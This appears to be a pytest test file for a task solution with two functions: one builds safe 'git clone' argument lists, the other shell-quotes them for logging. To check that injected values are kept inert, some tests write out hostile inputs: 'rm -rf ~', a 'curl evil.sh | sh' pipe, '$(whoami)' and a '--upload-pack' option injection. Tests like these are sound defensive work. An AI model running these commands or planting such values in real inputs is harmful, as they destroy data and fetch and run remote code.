import shlex

import pytest

from solution import git_clone_argv, shell_join


def test_builds_git_clone_then_the_separator_then_url_and_dest():
    assert git_clone_argv("https://git.example.com/ops/infra.git", "infra") == [
        "git", "clone", "--", "https://git.example.com/ops/infra.git", "infra",
    ]


def test_puts_branch_then_depth_before_the_separator():
    got = git_clone_argv("https://git.example.com/a.git", "work/a", depth=1, branch="release/2.4")
    assert got == ["git", "clone", "--branch", "release/2.4", "--depth", "1", "--", "https://git.example.com/a.git", "work/a"]
    assert git_clone_argv("u", "d", branch="main") == ["git", "clone", "--branch", "main", "--", "u", "d"]
    assert git_clone_argv("u", "d", depth=50) == ["git", "clone", "--depth", "50", "--", "u", "d"]


def test_keeps_each_value_as_one_element_exactly_as_given():
    hostile = "main; rm -rf ~ #"
    url = "https://example.com/x.git' && curl evil.sh | sh '"
    dest = "my dir/$(whoami)"
    assert git_clone_argv(url, dest, branch=hostile) == ["git", "clone", "--branch", hostile, "--", url, dest]


def test_a_url_or_dest_starting_with_a_dash_comes_after_the_separator():
    assert git_clone_argv("--upload-pack=touch /tmp/pwned", "-x") == ["git", "clone", "--", "--upload-pack=touch /tmp/pwned", "-x"]


def test_a_dash_inside_a_branch_is_fine_and_depth_1_is_the_digits_1():
    assert git_clone_argv("u", "d", branch="fix-1", depth=1) == ["git", "clone", "--branch", "fix-1", "--depth", "1", "--", "u", "d"]


def test_none_means_not_given_and_each_call_returns_a_new_list():
    assert git_clone_argv("u", "d", branch=None, depth=None) == ["git", "clone", "--", "u", "d"]
    first = git_clone_argv("u", "d", branch="main")
    first.append("extra")
    assert git_clone_argv("u", "d") == ["git", "clone", "--", "u", "d"]
    assert git_clone_argv("u", "d", branch="main") == ["git", "clone", "--branch", "main", "--", "u", "d"]


@pytest.mark.parametrize(
    "url, dest, options",
    [
        ("", "d", {}),
        ("u", "", {}),
        ("u", "d", {"branch": ""}),
        ("u", "d", {"branch": "-b"}),
        ("u", "d", {"branch": "--upload-pack=sh"}),
        ("u", "d", {"depth": 0}),
        ("u", "d", {"depth": -1}),
        ("u", "d", {"depth": 1.5}),
        ("u", "d", {"depth": 2.0}),
        ("u", "d", {"depth": True}),
        ("u", "d", {"depth": "1"}),
        ("u", "d", {"depth": float("nan")}),
        ("u", "d", {"depth": float("inf")}),
    ],
    ids=["empty-url", "empty-dest", "empty-branch", "branch-with-dash", "branch-an-option", "depth-0",
         "negative-depth", "fractional-depth", "float-depth", "bool-depth", "string-depth", "nan-depth", "inf-depth"],
)
def test_raises_value_error(url, dest, options):
    with pytest.raises(ValueError):
        git_clone_argv(url, dest, **options)


def test_safe_arguments_stay_bare():
    argv = ["git", "clone", "--depth", "1", "--", "https://host:8443/a_b/c-d.git", "user@host", "a%b+c=d,e"]
    assert shell_join(argv) == "git clone --depth 1 -- https://host:8443/a_b/c-d.git user@host a%b+c=d,e"


def test_arguments_with_spaces_or_shell_characters_are_single_quoted():
    argv = ["echo", "a b", "$(whoami)", "x;y", "a|b", "*", "~", "x&y", 'a"b', "\\n", "#"]
    assert shell_join(argv) == "echo 'a b' '$(whoami)' 'x;y' 'a|b' '*' '~' 'x&y' 'a\"b' '\\n' '#'"


@pytest.mark.parametrize(
    "arg, quoted",
    [("it's", "'it'\"'\"'s'"), ("'", "''\"'\"''"), ("a'b'c d", "'a'\"'\"'b'\"'\"'c d'")],
    ids=["inside", "alone", "twice"],
)
def test_a_single_quote_is_written_as_close_double_quoted_reopen(arg, quoted):
    assert shell_join([arg]) == quoted


def test_the_empty_argument_is_two_quotes():
    assert shell_join(["git", "", "x"]) == "git '' x"


def test_non_ascii_tabs_and_newlines_are_quoted():
    assert shell_join(["café", "٣", "a\tb", "a\nb", "end\n"]) == "'café' '٣' 'a\tb' 'a\nb' 'end\n'"


def test_joins_with_single_spaces_and_nothing_gives_the_empty_string():
    assert shell_join([]) == ""
    assert shell_join(["a"]) == "a"
    assert shell_join(["a", "b", "c"]) == "a b c"
    assert shell_join(("a", "b")) == "a b"


def test_the_logged_line_reads_back_as_the_same_argument_list():
    argv = git_clone_argv("https://example.com/x.git", "my dir", branch="it's")
    line = shell_join(argv)
    assert line == "git clone --branch 'it'\"'\"'s' -- https://example.com/x.git 'my dir'"
    assert shlex.split(line) == argv
